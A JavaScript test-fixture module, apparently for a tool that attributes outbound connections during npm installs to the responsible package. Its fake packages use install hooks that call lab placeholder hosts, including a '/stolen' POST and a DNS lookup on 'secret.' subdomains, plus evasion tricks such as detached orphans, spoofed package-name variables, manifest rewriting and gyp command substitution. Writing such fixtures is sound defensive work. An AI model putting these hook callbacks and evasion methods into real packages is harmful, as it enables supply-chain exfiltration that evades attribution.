/*
 * The fixture packages. Each reaches out to a host of its own, so the host is the label: what connects to
 * `NAME.collect.lab.example` must be attributed to the package NAME, and to no other.
 */

/** Host of a label. */
export function collectorOf(label) {
  return `${label}.collect.lab.example`;
}

/** Connects by HTTP to the host that it is given, and ends well whatever comes of it. */
const REACH = `
const http = require('node:http');
const host = process.argv[2];
const wait = Number(process.argv[3] ?? 0);
setTimeout(() => {
  http.get({ host, path: '/' + process.pid, timeout: 5000 }, (answer) => answer.resume()).on('error', () => {});
}, wait);
`;

/** Starts a program that outlives this one: a child starts it detached and ends at once. */
const ORPHAN = `
const { spawn } = require('node:child_process');
const path = require('node:path');
const [, , step, host] = process.argv;
const next = step === '1'
  ? [path.join(__dirname, 'orphan.js'), '2', host]
  : [path.join(__dirname, 'reach.js'), host, '150'];
spawn(process.execPath, next, { detached: true, stdio: 'ignore', cwd: '/' }).unref();
`;

const EMPTY_ENVIRONMENT = `
require('node:child_process').spawnSync(process.execPath, [require('node:path').join(__dirname, 'reach.js'), process.argv[2]], { env: {}, cwd: '/' });
`;

const SPOOFED = `
const path = require('node:path');
const other = path.join(__dirname, '..', 'quiet');
const env = { ...process.env, npm_package_name: 'quiet', npm_package_version: '1.0.0', npm_package_json: path.join(other, 'package.json'), PNPM_SCRIPT_SRC_DIR: other };
require('node:child_process').spawnSync('sh', ['-c', 'node ' + JSON.stringify(path.join(__dirname, 'reach.js')) + ' ' + process.argv[2]], { env, cwd: require('node:fs').existsSync(other) ? other : '/' });
`;

const REWRITE = `
const fs = require('node:fs');
const path = require('node:path');
const file = path.join(__dirname, 'package.json');
const manifest = JSON.parse(fs.readFileSync(file, 'utf8'));
fs.writeFileSync(file, JSON.stringify({ ...manifest, name: 'quiet', version: '9.9.9' }));
require('./reach.js');
`;

/** Speaks when it is loaded, by HTTPS and by DNS, and would go on for good. */
const LOADS = `
fetch('https://${collectorOf('loads')}/stolen?a=1', { method: 'POST', body: JSON.stringify(Object.keys(process.env).length) }).catch(() => {});
require('node:dns').resolveTxt('secret.${collectorOf('loads')}', () => {});
setInterval(() => {}, 1000);
`;

/** Speaks at its top level, and waits for the answer, so that it can't be required. */
const LOADS_AS_MODULE = `
import process from 'node:process';
await fetch('https://${collectorOf('loads-as-module')}/' + process.pid).catch(() => {});
export default 1;
`;

/** What it does when it is imported. */
const LEAVES = `
import { get } from 'node:http';
get('http://${collectorOf('leaves')}/').on('error', () => {});
`;

function fixture(name, manifest, files = {}) {
  return {
    name,
    version: '1.0.0',
    manifest: { name, version: '1.0.0', ...manifest },
    files: { 'reach.js': REACH, 'index.js': 'module.exports = 1;\n', ...files },
  };
}

const postinstall = (script) => ({ scripts: { postinstall: script } });

/** Name → fixture. */
export const PACKAGES = Object.fromEntries(
  [
    fixture('direct', postinstall(`node reach.js ${collectorOf('direct')}`)),
    fixture('through-shell', {
      scripts: { install: `sh -c "node reach.js ${collectorOf('through-shell')}; true" && true` },
    }),
    fixture('an-orphan', postinstall(`node orphan.js 1 ${collectorOf('an-orphan')}`), {
      'orphan.js': ORPHAN,
    }),
    fixture('empty-environment', postinstall(`node empty.js ${collectorOf('empty-environment')}`), {
      'empty.js': EMPTY_ENVIRONMENT,
    }),
    fixture('spoofed-name', postinstall(`node spoof.js ${collectorOf('spoofed-name')}`), {
      'spoof.js': SPOOFED,
    }),
    fixture('parallel-a', postinstall(`node reach.js ${collectorOf('parallel-a')} 300`)),
    fixture('parallel-b', postinstall(`node reach.js ${collectorOf('parallel-b')} 300`)),
    fixture(
      'gyp-only',
      { gypfile: true },
      {
        'binding.gyp': `{ "targets": [{ "target_name": "none", "type": "none", "variables": { "x": "<!(node reach.js ${collectorOf('gyp-only')})" } }] }\n`,
      },
    ),
    fixture('aliased-real', postinstall(`node reach.js ${collectorOf('aliased-real')}`)),
    fixture(
      'rewrites-manifest',
      {
        scripts: {
          preinstall: `node rewrite.js ${collectorOf('rewrites-manifest')}`,
          postinstall: `node reach.js ${collectorOf('rewrites-manifest')}`,
        },
      },
      { 'rewrite.js': REWRITE },
    ),
    fixture('optional-fails', postinstall(`node reach.js ${collectorOf('optional-fails')} && exit 1`)),
    fixture('fails', postinstall(`node reach.js ${collectorOf('fails')} && exit 1`)),
    fixture('quiet', postinstall('node index.js')),
    fixture('leaf', postinstall(`node reach.js ${collectorOf('leaf')}`)),
    fixture('middle', { dependencies: { leaf: '1.0.0' } }),
    fixture('top', { dependencies: { middle: '1.0.0' } }),
    fixture('asks-registry', postinstall(`node reach.js registry.lab.example`)),
    // Each can be loaded in one way only.
    fixture('loads', { exports: { require: './index.js' } }, { 'index.js': LOADS }),
    fixture(
      'loads-as-module',
      { type: 'module', exports: { import: './index.js' } },
      { 'index.js': LOADS_AS_MODULE },
    ),
    // Whoever requires it has ended.
    fixture(
      'leaves',
      { exports: { require: './index.js', import: './module.mjs' } },
      { 'index.js': 'process.exit();\n', 'module.mjs': LEAVES },
    ),
    fixture('hangs', postinstall('node hangs.js'), {
      'hangs.js': "process.on('SIGTERM', () => {}); setInterval(() => {}, 1000);\n",
    }),
    fixture('newcomer', postinstall(`node reach.js ${collectorOf('newcomer')}`)),
  ].map((one) => [one.name, one]),
);

/** The files of the git dependency, whose `prepare` reaches out. */
export const GIT_PACKAGE = {
  'package.json': JSON.stringify({
    name: 'from-git',
    version: '1.0.0',
    scripts: { prepare: `node reach.js ${collectorOf('from-git')}` },
  }),
  'reach.js': REACH,
  'index.js': 'module.exports = 1;\n',
};

/** The files of a workspace member. */
export const WORKSPACE_PACKAGE = {
  'package.json': JSON.stringify({
    name: 'workspace-member',
    version: '1.0.0',
    scripts: { postinstall: `node reach.js ${collectorOf('workspace-member')}` },
  }),
  'reach.js': REACH,
};
